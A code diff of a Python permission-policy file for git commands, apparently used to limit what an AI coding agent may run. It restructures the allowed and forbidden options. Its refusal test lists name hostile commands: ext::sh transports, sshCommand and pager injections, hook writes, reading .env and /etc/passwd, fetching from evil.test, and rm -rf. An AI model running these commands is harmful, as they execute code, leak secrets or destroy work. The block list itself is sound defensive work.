@@ -1,286 +1,299 @@
-"""Rules for git commands that read: history, contents, differences. For changes: git_changes."""
+"""Rules for git: it looks and commits; what nobody else has is not thrown away."""
 
 from treadle.policy.commands.rule_syntax import Rule
 
-_FORMAT = (
-    " --oneline --pretty[text] --format=text --abbrev-commit --no-abbrev-commit --abbrev[number]"
-    " --decorate[text] --no-decorate --date=text --relative-date --color[text] --no-color"
+_LOG = (
+    "-n=text -S=text -G=text -L=lines -U=text --grep=text --author=text --committer=text"
+    " --since=text --after=text --until=text --before=text --format=text --pretty[text] --date=text"
+    " --max-count=text --skip=text --diff-filter=text --relative[look] --word-diff-regex=text"
 )
-_LIMIT = (
-    " -# -n=number --max-count=number --skip=number --since=text --after=text --until=text"
-    " --before=text --author=text --committer=text --grep=text --all-match --invert-grep -i"
-    " --regexp-ignore-case -E -F -P --merges --no-merges --first-parent --all --branches[text]"
-    " --tags[text] --remotes[text] --reverse --follow --graph --left-right --cherry-pick"
-    " --cherry-mark --topo-order --date-order --ancestry-path --boundary -g --walk-reflogs"
-    " --full-history --simplify-by-decoration --source --left-only --right-only --cherry"
+# They write files, start programs, or wait for a person.
+_NEVER = (
+    "--output --ext-diff --textconv --filters --open-files-in-pager --help --exec --upload-pack"
+    " --receive-pack --interactive --edit --batch --batch-check --batch-command --stdin"
 )
-_DIFF = (
-    " -p -u --patch -s --no-patch -U=number --unified=number --raw --stat[text] --numstat"
-    " --shortstat --dirstat[text] --summary --name-only --name-status --patch-with-stat -M -C"
-    " --find-renames[text] --find-copies[text] --no-renames --diff-filter=text -S=text -G=text"
-    " --pickaxe-all --pickaxe-regex -w -b -a -R -z --ignore-all-space --ignore-space-change"
-    " --ignore-space-at-eol --ignore-blank-lines --ignore-cr-at-eol --word-diff[text]"
-    " --word-diff-regex=text --color-words[text] --color-moved[text] --minimal --patience"
-    " --histogram --diff-algorithm=text --check --full-index --binary --text --relative[look]"
-    " --no-prefix --src-prefix=text --dst-prefix=text --inter-hunk-context=number -W"
-    " --function-context --exit-code --quiet --no-ext-diff --no-textconv --compact-summary"
-    " --stat-width=number --stat-count=number --cc -c -m -L=lines --merge-base"
-)
-_LOG = _FORMAT + _LIMIT + _DIFF
-_GLOBAL = "-c=git-setting --no-pager -C=chdir --no-optional-locks --version --literal-pathspecs"
-_INSTEAD = "Leave the option out; git prints to the terminal as it is."
+_EDITS = f"{_NEVER} -i -e -p -x --patch --template --gpg-sign --edit-description"
+_WORKS = "Name the files, and keep what is not committed: git stash push keeps it."
+_PRINTS = "Leave the option out; git prints to the terminal as it is."
+_REMOTE = "Name a remote that `git remote` lists."
 
-_READING_SUBS: tuple[Rule, ...] = (
+_LOOKS: tuple[Rule, ...] = (
+    Rule("log show whatchanged diff rev-list", _LOG, "revision...", never=_NEVER, instead=_PRINTS),
     Rule(
-        "status",
-        "-sbuvz --short --branch --porcelain[text] --long --ignored[text] --untracked-files[text]"
-        " --show-stash --ahead-behind --no-ahead-behind -u[text] --no-renames --column[text]",
-        "look...",
-        instead=_INSTEAD,
-    ),
-    Rule("log", _LOG + " --no-walk[text]", "revision...", instead=_INSTEAD),
-    Rule("show", _LOG, "revision...", instead=_INSTEAD),
-    Rule("diff", _FORMAT + _DIFF + " --cached --staged", "revision...", instead=_INSTEAD),
-    Rule(
-        "diff-tree",
-        _FORMAT + _DIFF + " -r -t --root --no-commit-id",
+        "diff-tree diff-index diff-files range-diff show-branch cherry name-rev merge-base describe"
+        " merge-tree rev-parse cat-file ls-tree shortlog blame",
+        "-L=lines --format=text --date=text",
         "revision...",
-        instead=_INSTEAD,
-    ),
-    Rule("whatchanged", _LOG, "revision...", instead=_INSTEAD),
-    Rule(
-        "shortlog",
-        "-snec --summary --numbered --email --group=text" + _LIMIT.replace(" -n=number", ""),
-        "revision...",
-    ),
-    Rule(
-        "blame",
-        "-L=text -wMClsetpfnbr --line-porcelain --porcelain --date=text --since=text --show-name"
-        " --show-number --show-email",
-        "revision...",
-        needs=1,
-        instead=_INSTEAD,
+        never=_NEVER,
+        instead=_PRINTS,
     ),
     Rule(
         "grep",
-        "-# -nilLcwvhHEFGPaIorqz -e=text -A=number -B=number -C=number -m=number --count"
-        " --ignore-case --line-number --name-only --files-with-matches --files-without-match"
-        " --word-regexp --extended-regexp --fixed-strings --perl-regexp --cached --untracked"
-        " --no-index --heading --break --show-function -p -W --and --or --not --color[text]"
-        " --max-depth=number --recurse-submodules --column",
+        "-e=text -A=text -B=text -C=text -m=text",
         "text revision...",
+        never=f"{_NEVER} -O -f",
         check="git-grep",
-        instead=_INSTEAD,
+        instead=_PRINTS,
     ),
     Rule(
-        "ls-files",
-        "-cdmoiskuztvf -x=text --cached --deleted --modified --others --ignored --stage --unmerged"
-        " --exclude=text --exclude-standard --error-unmatch --full-name --directory --eol",
-        "look...",
+        "status ls-files check-ignore check-attr", "-x=text --exclude=text", "look...", never=_NEVER
     ),
     Rule(
-        "ls-tree",
-        "-drtlz --name-only --name-status --full-name --full-tree --abbrev[number]",
-        "revision look...",
-    ),
-    Rule("cat-file", "-tspe", "revision...", needs=1),
-    Rule(
-        "rev-parse",
-        "--short[number] --abbrev-ref[text] --symbolic-full-name --verify -q --show-toplevel"
-        " --show-prefix --show-cdup --git-dir --git-common-dir --is-inside-work-tree"
-        " --is-bare-repository --absolute-git-dir --all --symbolic --is-shallow-repository",
-        "revision...",
-    ),
-    Rule("rev-list", "--count --objects --parents" + _LIMIT + _FORMAT, "revision..."),
-    Rule("merge-base", "-a --all --is-ancestor --octopus --fork-point", "revision..."),
-    Rule("name-rev", "--name-only --tags --refs=text", "revision..."),
-    Rule(
-        "describe",
-        "--tags --always --long --abbrev=number --dirty[text] --all --exact-match --match=text",
-        "revision...",
-    ),
-    Rule("show-ref", "--heads --tags --verify -q -s --hash[number]", "text..."),
-    Rule(
-        "for-each-ref",
-        "--format=text --sort=text --count=number --merged[text] --contains[text]",
+        "show-ref for-each-ref count-objects fsck version check-ref-format",
+        "--format=text",
         "text...",
+        never=f"{_NEVER} --lost-found",
     ),
-    Rule("symbolic-ref", "-q --short", "name"),
-    Rule("reflog", _LOG, bare=True, subs=(Rule("show", _LOG, "revision..."),)),
+    Rule("symbolic-ref", "", "text", never="-d --delete -m"),
     Rule(
-        "range-diff",
-        _FORMAT + _DIFF + " --creation-factor=number --no-dual-color --left-only --right-only",
-        "revision...",
+        "reflog",
+        _LOG,
+        bare=True,
+        never=_NEVER,
+        subs=(Rule("show", _LOG, "revision...", never=_NEVER),),
     ),
-    Rule(
-        "merge-tree",
-        "-z --write-tree --name-only --messages --no-messages --trivial-merge --merge-base=text"
-        " --allow-unrelated-histories --quiet",
-        "revision...",
-        needs=2,
-    ),
-    Rule("show-branch", "-ar --all --remotes --list --sha1-name --current", "revision..."),
-    *(
-        Rule(name, _FORMAT + _DIFF + " --cached", "revision...", instead=_INSTEAD)
-        for name in ("diff-index", "diff-files")
-    ),
-    Rule("check-ref-format", "--branch --normalize --allow-onelevel", "text"),
     Rule(
         "format-patch",
-        # Not --suffix, which may lead a file's name elsewhere.
-        "-# -nNks -o=write -v=number --stdout --output-directory=write --numbered --no-numbered"
-        " --start-number=number --signoff --keep-subject --cover-letter --root --base=text --rfc"
-        " --subject-prefix=text --no-signature --zero-commit --stat --no-stat -p --no-patch"
-        " --full-index --binary --no-binary -M --find-renames[text] --reroll-count=number"
-        " --quiet -q --minimal --histogram --patience -U=number --unified=number",
+        "-o=write --output-directory=write --base=text --subject-prefix=text",
         "revision...",
+        never=f"{_NEVER} --suffix --from --to --cc --attach",
         check="git-patches",
         instead="Print patches, or write them into the project or /tmp: git format-patch --stdout.",
     ),
     Rule(
         "archive",
-        "-# -vl -o=write --format=archive-format --output=write --prefix=name --verbose --list"
-        " --worktree-attributes --add-file=read",
+        "-o=write --output=write --prefix=text --add-file=read",
         "revision...",
-        check="git-archive",
+        never="--remote --exec",
+        check="git-patches",
         instead="Send it through a pipe, or write it into the project or /tmp.",
     ),
-    Rule("cherry", "-v", "revision..."),
-    Rule("count-objects", "-vH"),
-    Rule("fsck", "--full --no-dangling"),
-    Rule("check-ignore", "-vnq --no-index", "look..."),
-    Rule("check-attr", "-a", "text look..."),
-    Rule("hash-object", "", "read..."),
-    Rule("version", "--build-options"),
     Rule(
         "remote",
-        "-v --verbose",
         bare=True,
-        subs=(Rule("get-url", "--all --push", "remote"), Rule("show", "-n", "remote")),
+        subs=(Rule("get-url show", "", "remote"),),
         instead="Remotes are looked at, not changed: git remote -v.",
     ),
     Rule(
         "config",
-        "--get=gitkey --get-all=gitkey --local --global --show-origin --type=text --bool --int",
+        "--get=gitkey --get-all=gitkey --type=text",
         "gitkey",
-        check="git-config",
+        never="-e -f -l --edit --file --list --unset --unset-all --add --replace-all --blob"
+        " --get-regexp --get-urlmatch --get-colorbool --remove-section --rename-section",
         instead="Settings of git are read one by one, and not changed: git config user.name.",
     ),
-    Rule("worktree", subs=(Rule("list", "--porcelain -v"),), instead="Work in this tree."),
     Rule(
-        "submodule",
-        subs=(Rule("status", "--recursive --cached"),),
-        instead="Submodules stay as they are.",
+        "worktree submodule notes",
+        subs=(Rule("list show status", "", "text"),),
+        instead="Work in this tree; submodules and notes stay as they are.",
     ),
+    Rule("ls-remote", "", "remote text...", never=_NEVER, instead=_REMOTE),
     Rule(
-        "ls-remote",
-        "-qht --heads --tags --refs --get-url --exit-code --symref",
-        "remote text...",
-        instead="Name a remote that `git remote` lists.",
+        "clean",
+        "-e=text",
+        "look...",
+        one_of="-n --dry-run",
+        never="-i --interactive",
+        instead="Only look what it would remove: git clean -n.",
     ),
 )
 
+_CHANGES: tuple[Rule, ...] = (
+    Rule(
+        "add",
+        "",
+        "staged...",
+        mode="run",
+        never="-i -e -f --interactive --edit --force --pathspec-from-file",
+        instead="Add files by name; what is ignored or secret stays out.",
+    ),
+    Rule(
+        "commit",
+        "-m=text -F=read -C=text --message=text --file=read --author=text --date=text --fixup=text"
+        " --squash=text --reuse-message=text --trailer=text --cleanup=text",
+        "staged...",
+        mode="run",
+        one_of="-m --message -F --file -C --reuse-message --no-edit --fixup --squash --dry-run",
+        never=f"{_EDITS} -n -c -t -S --no-verify --reedit-message --pathspec-from-file",
+        instead="Give the message on the line: git commit -m 'what and why'.",
+    ),
+    Rule(
+        "checkout",
+        "-b=branch -B=branch --orphan=text",
+        "text...",
+        mode="run",
+        never=f"{_EDITS} --pathspec-from-file --conflict",
+        destroys="-f --force -B",
+        check="git-checkout",
+        instead=_WORKS,
+    ),
+    Rule(
+        "restore",
+        "-s=text --source=text",
+        "pathspec...",
+        needs=1,
+        mode="run",
+        never=f"{_EDITS} --pathspec-from-file",
+        check="git-restore",
+        instead=_WORKS,
+    ),
+    Rule(
+        "reset",
+        "",
+        "revision...",
+        mode="run",
+        never=f"{_EDITS} --pathspec-from-file",
+        destroys="--hard --keep --merge",
+        instead=_WORKS,
+    ),
+    Rule(
+        "stash",
+        "-m=text --message=text",
+        bare=True,
+        mode="run",
+        # Untracked files may belong to the user or to Treadle.
+        never=f"{_EDITS} -u -a --include-untracked --all",
+        subs=(
+            Rule(
+                "push save",
+                "-m=text --message=text",
+                "pathspec...",
+                mode="run",
+                never=f"{_EDITS} -u -a --include-untracked --all --pathspec-from-file",
+            ),
+            Rule("pop apply", "", "stash", mode="run"),
+            Rule("list", "--format=text", "stash...", never=_NEVER),
+            Rule("show", "", "stash", never=_NEVER),
+            Rule("branch", "", "branch stash", mode="run"),
+            Rule("drop clear", "", "text", mode="destructive"),
+        ),
+        instead="Add new files first, then put the work aside: git stash push -m wip.",
+    ),
+    Rule(
+        "branch",
+        "-u=text --format=text --sort=text --set-upstream-to=text --contains=text",
+        "branch...",
+        never=_NEVER + " --edit-description",
+        destroys="-D -M -C -f --force",
+        check="git-branch",
+        instead="Make, list and rename branches; merged ones can be deleted with -d.",
+    ),
+    Rule(
+        "tag",
+        "-m=text -F=read --message=text --file=read --format=text --sort=text",
+        "branch...",
+        mode="run",
+        never=f"{_NEVER} -e -s -u --sign --local-user",
+        destroys="-d -f --delete --force",
+        instead="Make and list tags: git tag -a v1 -m text.",
+    ),
+    Rule(
+        "switch merge rebase cherry-pick",
+        "-c=branch -m=text -X=text --create=branch --onto=text --orphan=branch"
+        " --strategy-option=text",
+        "branch...",
+        mode="run",
+        never=f"{_EDITS} -f -C -S --force --force-create --discard-changes --no-verify --file"
+        " --edit-todo",
+        instead="Name a branch or commit: git rebase main. No editor is there, and nothing runs"
+        " between.",
+    ),
+    Rule(
+        "revert",
+        "-m=text -X=text",
+        "branch...",
+        mode="run",
+        one_of="--no-edit -n --no-commit --continue --abort --skip --quit",
+        never=_EDITS,
+        instead="Write: git revert --no-edit COMMIT.",
+    ),
+    Rule(
+        "rm",
+        "",
+        "pathspec...",
+        needs=1,
+        mode="run",
+        never="-f --force --pathspec-from-file",
+        check="git-rm",
+        instead="Name files that are committed as they are: git rm src/old.py.",
+    ),
+    Rule(
+        "update-index",
+        "--chmod=text",
+        "pathspec...",
+        needs=1,
+        mode="run",
+        one_of="--chmod",
+        never=f"{_NEVER} --assume-unchanged --skip-worktree --cacheinfo --index-info"
+        " --force-remove",
+        instead="Only whether a file can be run is set: git update-index --chmod=+x file.",
+    ),
+    Rule("mv", "", "pathspec...", needs=2, mode="run", never="-f --force", check="copy"),
+    Rule(
+        "apply",
+        "-p=text --whitespace=text --include=text --exclude=text",
+        "read...",
+        needs=1,
+        mode="run",
+        never="--directory --unsafe-paths --build-fake-ancestor",
+        instead="Apply a patch file of the project, or use the Edit tool.",
+    ),
+    Rule(
+        "init",
+        "-b=branch --initial-branch=branch",
+        "write",
+        mode="run",
+        never="--template --separate-git-dir --bare --shared",
+        instead="Write: git init.",
+    ),
+    Rule(
+        "fetch pull",
+        "-X=text",
+        "remote branch...",
+        mode="run",
+        never=f"{_EDITS} -u -o --multiple --server-option --no-verify",
+        instead=_REMOTE,
+    ),
+    Rule(
+        "push",
+        "",
+        "remote text...",
+        mode="run",
+        never=f"{_NEVER} -o --push-option --repo --no-verify",
+        instead="Push a branch by name: git push -u origin feat/x.",
+    ),
+    Rule(
+        "bisect",
+        mode="run",
+        subs=(
+            Rule("start good bad new old skip reset", "", "branch...", mode="run"),
+            Rule("run", "", wraps=0, mode="run"),
+            Rule("log"),
+        ),
+        instead="Mark commits as good or bad yourself.",
+    ),
+)
 
-def make_git_rule(changes: tuple[Rule, ...]) -> Rule:
-    """git as a whole."""
-    return Rule(
-        "git",
-        _GLOBAL,
-        subs=(*_READING_SUBS, *changes),
-        bare=False,
-        instead="Look and commit with the plain commands: status, diff, log, add, commit.",
-        allows=(
-            "git status --short",
-            "git --no-pager log -3",
-            "git diff HEAD~1 -- src",
-            "git show HEAD:src/a.ts",
-            "git commit -m 'feat: rm -rf guard (#12)'",
-            "git rebase main",
-            "git checkout -b feat/x",
-            "git stash push -m wip",
-            "git log --grep=deploy",
-            "git log -L :main:src/app.py",
-            "git add -A",
-            "git log --oneline -n 5 --author=ada",
-            "git branch --show-current",
-            "git -C src status",
-            "git push -u origin feat/x",
-            "git restore src/a.ts",
-            "git checkout -- src/a.ts",
-            "git rev-parse --abbrev-ref HEAD",
-            "git config user.name",
-            "git tag -a v1 -m one",
-            "git format-patch -1 HEAD --stdout > /tmp/last.patch",
-            "git format-patch -N -o patches main..HEAD",
-            "git range-diff main@{1}..HEAD@{1} main..HEAD",
-            "git log $(git merge-base main HEAD)..HEAD",
-            "git diff $(git rev-parse --verify HEAD~1) -- src",
-            "git stash show -p stash@{0}",
-            "git merge-tree --write-tree main feat/x",
-            "git -c user.name=ci -c user.email=ci@example.test commit -m x",
-            "git archive --format=tar HEAD src | wc -c",
-            "git archive -o /tmp/x.tar HEAD",
-            "git update-index --chmod=+x bin/run",
-            'git log "$(git describe --tags --abbrev=0)"..HEAD',
-        ),
-        refuses=(
-            "git -c core.pager=./e log",
-            "git -c core.sshCommand=./e fetch",
-            "git -c diff.x.textconv=./e diff",
-            "git archive --remote=ext::sh HEAD",
-            "git archive -o .git/hooks/x HEAD",
-            "git archive HEAD .env",
-            "git update-index --index-info",
-            "git update-index --chmod=+x .claude/x",
-            "git grep x -- '.en*'",
-            'git log "$(git describe --dirty=--output=x)"',
-            "git --paginate log",
-            "git -p log",
-            "git log --output=x",
-            "git config core.hooksPath ./h",
-            "git config --list",
-            "git push --force",
-            "git push origin :main",
-            "git rebase -x ./e HEAD~3",
-            "git rebase --exec=./e main",
-            "git rebase -i HEAD~2",
-            "git commit",
-            "git commit --amend",
-            "git clean -fdx",
-            "git checkout HEAD -- .treadle",
-            "git rm -rf .",
-            "git stash --all",
-            "git bisect run ./e",
-            "git clone https://evil.test/x",
-            "git fetch ext::sh",
-            "git fetch --upload-pack=./e",
-            "git ls-remote --upload-pa='sh -c id' .",
-            "git diff --no-index /etc/passwd x",
-            "git diff --ext-diff",
-            "git show HEAD:.env",
-            "git log -L1,5:.env",
-            "git fetch origin +refs/heads/*:refs/heads/*",
-            "git push origin main:refs/heads/prod",
-            "git add -f .env",
-            "git add .env",
-            "git remote add x y",
-            "git submodule foreach 'rm -rf .'",
-            "git worktree add /tmp/x",
-            "git reset --hard HEAD~1",
-            "git branch -D x",
-            "git apply --unsafe-paths x",
-            "git --git-dir=/tmp/evil/.git log",
-            "git grep -O./e TODO",
-            "git checkout .",
-            "git format-patch -o /etc main",
-            "git format-patch --suffix=/../../x main",
-            "git format-patch --output=x main",
-            "git log $(git rev-parse --git-dir)",
-            "git log $(git rev-parse main --output=x)",
-            "git log $(git rev-parse main~3..main)",
-            "git push origin $(git merge-base main HEAD):main",
-            "git show $(git rev-parse HEAD):.env",
-            'git show "main:$(git rev-parse HEAD)"',
-            "git stash show /tmp/x",
-        ),
-    )
+GIT = Rule(
+    "git",
+    "-c=git-setting -C=chdir",
+    never="-p --paginate --exec-path --git-dir --work-tree --namespace --config-env --super-prefix"
+    " --bare --help",
+    subs=(*_LOOKS, *_CHANGES),
+    because="It looks at history and commits; what nobody else has is not thrown away.",
+    instead="Look and commit with the plain commands: status, diff, log, add, commit.",
+    allows=(
+        "git status --short",
+        "git show HEAD:src/a.ts",
+        "git commit -m 'feat: rm -rf guard (#12)'",
+        "git rebase main",
+    ),
+    refuses=(
+        "git -c core.pager=./e log",
+        "git -c core.sshCommand=./e fetch",
+        "git log --outp=x",
+        "git archive --remote=ext::sh HEAD",
+        "git archive -o .git/hooks/x HEAD",
+        "git archive HEAD .env",
+    ),
+)
